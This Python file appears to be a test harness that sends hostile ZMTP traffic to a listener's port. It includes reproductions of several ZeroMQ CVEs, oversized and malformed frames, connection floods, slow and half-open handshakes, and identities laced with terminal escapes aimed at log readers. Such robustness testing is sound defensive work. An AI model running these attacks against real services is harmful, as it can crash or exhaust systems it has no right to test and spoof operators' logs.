"""The attacks: `attacks.py NAME PORT [KEY=VALUE...]` does one and prints what it met, as JSON.

`kind=SUB` or `PUB` comes as another type than a DEALER. `server=FILE own=FILE` attacks a CURVE listener as one whom it
admits, with these certificates: before it has said who it is, and from inside the boxes.

Each says on the wire what a published attack, or an obvious one, says; what it must meet is for the
one who runs it to judge. `closed` counts connections that the other side ended, `open` those it left.
"""

import json
import random
import ssl
import struct
import sys
import time

from zmtp import COMMAND, SPOKEN, Raw, command, frame, greeting, header, introduced, message, prop
from zmtp import ready, shaken, speak, welcomed

ATTACKS = {}
# What `hellos` says, which is made once.
HELLOS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def tally(raws, wait=20.0):
    """Waits for the other side to end each; counts those it did and those it did not."""
    deadline = time.monotonic() + wait
    closed = sum(raw.is_closed(max(0.05, deadline - time.monotonic())) for raw in raws)
    for raw in raws:
        raw.close()
    return {"closed": closed, "open": len(raws) - closed}


@attack
def declared(port):
    """Frames that declare 2^62, 2^40 and 2^63 - 1 bytes: before READY, after it, as a command too."""
    raws = []
    for size in (1 << 62, 1 << 40, (1 << 63) - 1):
        for flags in (0, COMMAND):
            raws.append(Raw(port, greeting() + header(size, flags)))
            raws.append(Raw(port, greeting(), ready() + header(size, flags)))
            raw = shaken(port)
            raw.send(header(size, flags))
            raws.append(raw)
    return tally(raws)


@attack
def cve_2019_6250(port):
    """Sizes that overflow a pointer when they are added to it, with bytes that would be written."""
    raws = []
    for size in ((1 << 64) - 1, (1 << 64) - 9, (1 << 64) - 4096, 1 << 63):
        for minor in (0, 1):
            raw = shaken(port, minor=minor)
            raw.send(header(size) + b"A" * 4096)
            raws.append(raw)
    return tally(raws)


@attack
def cve_2019_13132(port):
    """CURVE handshake commands of any size, where a fixed buffer once took what they held."""
    hello = greeting(mechanism=b"CURVE")
    raws = []
    for size in (0, 1, 199, 201, 257, 1024, 65536, 200_000):
        for name in (b"HELLO", b"INITIATE"):
            raws.append(Raw(port, hello, command(name, b"\x01\x00" + b"B" * size)))
    for size in (1 << 20, 1 << 40):
        raws.append(Raw(port, hello, header(size, COMMAND) + b"\x08INITIATE"))
    if SPOKEN["keys"]:
        raws += after_hello(port)
    return tally(raws)


def after_hello(port):
    """The same where a cookie was given out for a HELLO that is good."""
    raws = []
    for size in (0, 1, 255, 256, 257, 1024, 65536, 200_000):
        raw, _ = welcomed(port)
        raw.send(command(b"INITIATE", b"B" * size))
        raws.append(raw)
    for what in (command(b"HELLO", b"\x01\0" + b"B" * 192), ready(), message(b"early"), header(1 << 62)):
        raw, _ = welcomed(port)
        raw.send(what)
        raws.append(raw)
    return raws


@attack
def cve_2020_15166(port, count=200):
    """Clients that never finish their handshake, before others want to be served."""
    stages = [b"", b"\xff", greeting()[:11], greeting(), greeting() + ready()[:5]]
    raws = [Raw(port, stages[i % len(stages)]) for i in range(count)]
    return tally(raws)


@attack
def cve_2021_20236(port):
    """GHSA-qq65-x72m-9wr8: subscriptions that make a deep tree, each taken back."""
    raws = []
    for minor in (0, 1):
        raw = introduced(port, b"SUB", minor=minor)
        for size in (1, 255, 256, 1024, 10_000, 100_000):
            topic = b"t" * size
            if minor:
                raw.send(command(b"SUBSCRIBE", topic) + command(b"CANCEL", topic))
            else:
                raw.send(message(b"\x01" + topic) + message(b"\x00" + topic))
            raw.send(command(b"CANCEL", b"never" * 20) if minor else message(b"\x00never"))
        raws.append(raw)
    return tally(raws, 3.0)


@attack
def cve_2021_20237(port, count=20_000):
    """GHSA-4p5v-h92w-6wxw: a subscriber that sends messages which are no subscriptions."""
    raw = introduced(port, b"SUB", minor=0)
    one = message(b"\x02" + b"x" * 200) * 100
    for _ in range(count // 100):
        if not raw.send(one):
            break
    return {**tally([raw], 3.0), "sent": raw.sent}


@attack
def parts(port, count=1_000_000):
    """One message of a million empty parts."""
    raw = shaken(port)
    some = b"\x01\x00" * 10_000
    for _ in range(count // 10_000):
        if not raw.send(some):
            break
    raw.send(b"\x00\x00")
    return {**tally([raw]), "sent": raw.sent}


@attack
def junk(port, megabytes=100, seed=1):
    """Noise: from the first byte, after a greeting, after a handshake."""
    noise = random.Random(seed)
    raws = [Raw(port), Raw(port, greeting()), shaken(port)]
    for raw in raws:
        for _ in range(megabytes):
            if not raw.send(noise.randbytes(1 << 20)):
                break
    return {**tally(raws), "sent": sum(raw.sent for raw in raws)}


@attack
def flood(port, megabytes=100):
    """Whole messages that nobody asked for, as fast as they are taken, without reading an answer."""
    raw = shaken(port)
    raw.socket.settimeout(5)
    one = message(b"", b"x" * 65_000)
    for _ in range(megabytes * 16):
        if not raw.send(one):
            break
    sent = raw.sent
    raw.vanish()
    return {"sent": sent}


@attack
def http(port):
    raws = [
        Raw(port, b"GET / HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n\r\n"),
        Raw(port, b"POST / HTTP/1.0\r\nContent-Length: 5\r\n\r\nhello"),
        Raw(port, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    ]
    return tally(raws)


@attack
def tls(port):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return tally([Raw(port, outgoing.read())])


@attack
def hellos(port, count=100, is_good=True):
    """Under CURVE: HELLOs from many connections, each of which costs the listener arithmetic and us none."""
    from nacl.public import PrivateKey, PublicKey

    from curve import hello

    if is_good not in HELLOS:
        server = SPOKEN["keys"][0] if SPOKEN["keys"] else bytes(32 * [9])
        said = greeting() + hello(PublicKey(server), PrivateKey.generate())
        # One whose box does not open costs as much to find out.
        HELLOS[is_good] = said if is_good else said[:-1] + bytes([said[-1] ^ 1])
    return tally([Raw(port, HELLOS[is_good]) for _ in range(count)])


@attack
def shaken_many(port, count=1_000):
    """Connections that finish their handshake and ask for nothing, all there at once."""
    raws = [shaken(port) for _ in range(count)]
    time.sleep(0.5)
    for raw in raws:
        raw.close()
    return {"made": count}


@attack
def slow(port, every=1.0, wait=20.0):
    """A handshake of one byte at a time. Says after how long it was ended."""
    raw = Raw(port)
    raw.socket.settimeout(every)
    start = time.monotonic()
    for byte in greeting() + ready():
        if time.monotonic() - start > wait or not raw.send(bytes([byte])):
            break
        try:
            if raw.socket.recv(65536) == b"":
                break
        except TimeoutError:
            continue
        except ConnectionError:
            break
    took = time.monotonic() - start
    return {**tally([raw], 0.2), "took": took}


@attack
def half_open(port, count=1_000, wait=20.0):
    """Connections that say nothing."""
    raws = [Raw(port) for _ in range(count)]
    return tally(raws, wait)


@attack
def vanish(port, count=10_000):
    """Connect and be gone, at every stage of a handshake, with a reset or without."""
    stages = [b"", b"\xff", greeting()[:20], greeting(), greeting() + ready()]
    stages += [stages[-1] + message(b"", b"x"), stages[-1] + header(1000) + b"half"]
    for number in range(count):
        raw = Raw(port, stages[number % len(stages)])
        raw.vanish() if number % 2 else raw.close()
    return {"made": count}


@attack
def pings(port, count=1_000_000):
    """PINGs as fast as they are taken, and no look at the PONGs."""
    raw = shaken(port)
    raw.socket.settimeout(5)
    some = command(b"PING", struct.pack(">H", 10) + b"0123456789abcdef") * 1_000
    for _ in range(count // 1_000):
        if not raw.send(some):
            break
    return {**tally([raw], 1.0), "sent": raw.sent}


@attack
def ping_shapes(port):
    """PINGs and PONGs that are too short, too long, or not asked for."""
    shapes = [command(b"PING"), command(b"PING", b"\0"), command(b"PING", b"\0\1" + b"c" * 17)]
    shapes += [command(b"PING", b"\0\1" + b"c" * 60_000), command(b"PONG", b"c" * 17)]
    raws = []
    for shape in shapes:
        raw = shaken(port)
        raw.send(shape)
        raws.append(raw)
    return tally(raws, 2.0)


@attack
def topics(port, size=1 << 20):
    """A topic far beyond reason, as a command and, for 3.0 peers, as a message."""
    raws = [introduced(port), introduced(port, minor=0)]
    raws[0].send(command(b"SUBSCRIBE", b"t" * size))
    raws[1].send(message(b"\x01" + b"t" * size))
    return tally(raws, 2.0)


@attack
def subscriptions(port, count=1_000_000):
    """A million different subscriptions on one connection."""
    raw = introduced(port)
    raw.socket.settimeout(5)
    for number in range(0, count, 1_000):
        some = b"".join(command(b"SUBSCRIBE", b"%d" % i) for i in range(number, number + 1_000))
        if not raw.send(some):
            break
    return {**tally([raw], 1.0), "sent": raw.sent}


@attack
def metadata(port):
    """READY with more than anybody needs: a long identity, a long property, many properties."""
    many = [(b"X-%d" % i, b"v") for i in range(1_000)]
    raws = [
        introduced(port, None, b"i" * 256),
        introduced(port, None, b"i" * 100_000),
        introduced(port, None, b"", (b"X-Large", b"v" * 200_000)),
        introduced(port, None, b"", *many),
        introduced(port, body=prop(b"Socket-Type", b"D" * 5_000)),
    ]
    return tally(raws)


@attack
def identities(port, name="alpha"):
    """Two that claim one name: both ask, and what each is answered must be its own."""
    name = name.encode()
    first, second = shaken(port, identity=name), shaken(port, identity=name)
    seen = []
    for number, raw in enumerate((first, second, first)):
        raw.socket.settimeout(2)
        raw.got = b""
        raw.send(message(b"ZN1", b"ping", b"id-%d" % number))
        # Heartbeats may come before the answer.
        while b"id-%d" % number not in raw.got and raw.read(len(raw.got) + 1):
            pass
        seen.append((b"id-%d" % number) in raw.got)
    first.close()
    second.close()
    return {"answered": seen}


@attack
def forged(port):
    """Identities and reasons with terminal escapes and line ends, for whoever reads the logs."""
    evil = b"\x1b[2J\x1b]0;owned\x07\r\nforged line \x00\x7f"
    one = shaken(port, identity=b"a" + evil)
    two = shaken(port, identity="a\u202eevil\u2028line".encode())
    three = Raw(port, greeting(), command(b"ERROR", bytes([len(evil)]) + evil))
    four = introduced(port, body=prop(b"Socket-Type", evil))
    five = Raw(port, greeting(mechanism=b"\x1b[31mRED"))
    one.send(message(b"ZN1", evil, b"id") + message(evil))
    refused = tally([three, four, five])
    input_line = sys.stdin.readline()  # the two stay until the caller has looked
    del input_line
    one.close()
    two.close()
    return refused


@attack
def errors(port):
    """ERROR commands, whole, cut short and lying about their length, before and after READY."""
    shapes = [b"\x03bad", b"", b"\xffshort", b"\x04\xff\xfe\xfd\xfc"]
    raws = [Raw(port, greeting(), command(b"ERROR", shape)) for shape in shapes]
    for shape in shapes:
        raw = shaken(port)
        raw.send(command(b"ERROR", shape))
        raws.append(raw)
    return tally(raws)


@attack
def commands(port):
    """After READY: READY again, handshake commands of CURVE and PLAIN, and broken command frames."""
    shapes = [ready(), frame(b"", COMMAND), frame(b"\xffREADY", COMMAND), frame(b"\x00", COMMAND)]
    shapes += [bytes([COMMAND | 1, 0]), bytes([8, 0]), bytes([0x80, 1, 0])]
    raws = []
    for shape in shapes:
        raw = shaken(port)
        raw.send(shape)
        raws.append(raw)
    return tally(raws)


@attack
def early(port):
    """A message, or a CURVE command, where READY belongs."""
    raws = [
        Raw(port, greeting(), message(b"", b"hello")),
        Raw(port, greeting(), command(b"HELLO", b"x" * 194)),
        Raw(port, greeting(), command(b"SUBSCRIBE", b"all")),
        Raw(port, greeting(), command(b"PING", b"\0\1")),
        Raw(port, greeting(), command(b"READY", b"\x0bSocket-Type\xff\xff\xff\xff")),
        Raw(port, greeting(), command(b"READY", b"\x00")),
        Raw(port, greeting(), command(b"READY")),
    ]
    return tally(raws)


@attack
def types(port):
    """Socket types that may not talk to the listener, and names that are none."""
    kinds = [b"PUSH", b"PULL", b"REP", b"PAIR", b"", b"ZZZ"]
    kinds += [] if SPOKEN["kind"] == b"PUB" else [b"PUB", b"XPUB"]
    kinds += [] if SPOKEN["kind"] == b"SUB" else [b"SUB", b"XSUB"]
    kinds += [] if SPOKEN["kind"] == b"DEALER" else [b"REQ", b"DEALER", b"ROUTER"]
    return tally([introduced(port, kind) for kind in kinds])


@attack
def greetings(port):
    """Greetings that are not ours: old ones, other mechanisms, broken ones."""
    shapes = [greeting(major=0), greeting(major=1), greeting(major=2)]
    other = b"NULL" if SPOKEN["keys"] else b"CURVE"
    shapes += [greeting(mechanism=m) for m in (b"PLAIN", other, b"GSSAPI", b"", b"null")]
    shapes += [b"\xfe" + greeting()[1:], greeting()[:9] + b"\x7e" + greeting()[10:]]
    shapes += [b"\x01\x00" + bytes(62), greeting(mechanism=b"NULL\0X"), greeting(as_server=7)]
    return tally([Raw(port, shape) for shape in shapes])


@attack
def dribble(port, count=200_000):
    """A large frame that is declared within the limits and then sent a few bytes at a time."""
    raw = shaken(port)
    raw.send(header(3 << 20))
    for _ in range(count):
        if not raw.send(b"x"):
            break
    sent = raw.sent
    raw.vanish()
    return {"sent": sent}


@attack
def unfinished(port, count=100, size=3 << 20):
    """Many connections that each send most of a large message and never its end."""
    raws = []
    for _ in range(count):
        raw = shaken(port)
        raw.socket.settimeout(5)
        raw.send(header(size) + b"x" * (size - 1))
        raws.append(raw)
    closed = 0
    for raw in raws:
        closed += raw.is_closed(0.01)
        raw.vanish()
    return {"closed": closed, "open": count - closed}


def main():
    name, port, *rest = sys.argv[1:]
    options = {}
    for one in rest:
        key, value = one.split("=")
        try:
            options[key] = json.loads(value)
        except ValueError:
            options[key] = value
    options.pop("back", None)
    speak(options.pop("kind", "DEALER").encode(), options.pop("server", None), options.pop("own", None))
    print(json.dumps(ATTACKS[name](int(port), **options)), flush=True)


if __name__ == "__main__":
    main()
